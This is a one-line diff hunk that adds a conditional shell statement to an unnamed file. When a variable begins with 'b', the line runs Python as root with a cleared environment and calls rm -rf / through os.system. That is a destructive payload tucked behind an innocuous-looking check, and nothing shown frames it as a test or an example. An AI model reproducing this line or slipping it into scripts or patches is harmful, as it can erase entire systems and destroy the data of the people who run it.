@@ -1,0 +1,1 @@
+if [[ $a =~ ^b ]]; then sudo -u root env -i A=1 python3 -c 'import os; os.system("rm -rf /")'; fi
